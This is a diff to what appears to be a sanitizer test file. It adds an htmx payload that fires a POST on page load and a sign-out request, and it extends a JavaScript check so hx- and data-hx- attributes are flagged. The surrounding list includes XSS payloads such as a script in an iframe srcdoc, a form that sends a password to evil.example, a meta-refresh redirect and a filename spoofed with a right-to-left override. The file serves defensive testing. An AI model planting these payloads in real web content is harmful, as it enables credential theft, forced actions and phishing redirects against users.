@@ -27,6 +27,7 @@ PAYLOADS = [
     "<iframe srcdoc=\"<script>top.document.title='owned'</script>\"></iframe>",
     "<form action=https://evil.example><input name=password></form>",
     "<base href=https://evil.example/><meta http-equiv=refresh content=0;url=https://evil.example>",
+    '<p hx-post="/accounts/1/act" hx-trigger="load" data-hx-vals="{}"><a hx-get="/sign-out" hx-on:click="1">x</a></p>',
     "\u202egnp.exe\u2066<b>x</b>",
 ]
 ADDRESSES = [
@@ -44,7 +45,7 @@ ALIVE = """(() => {
     if (e.tagName === "META" && e.httpEquiv) bad.push(e.outerHTML.slice(0, 120));
     if (e.tagName === "FORM" && new URL(e.action).origin !== own) bad.push(e.outerHTML.slice(0, 120));
     for (const a of e.attributes)
-      if (a.name.startsWith("on") || a.name === "style" || a.name === "srcdoc") bad.push(e.outerHTML.slice(0, 120));
+      if (/^(on|hx-|data-hx-|style$|srcdoc$)/.test(a.name)) bad.push(e.outerHTML.slice(0, 120));
     if (e.href && typeof e.href === "string" && e.tagName === "A"
       && !["http:", "https:", "mailto:"].includes(new URL(e.href).protocol)) bad.push(e.outerHTML.slice(0, 120));
   }
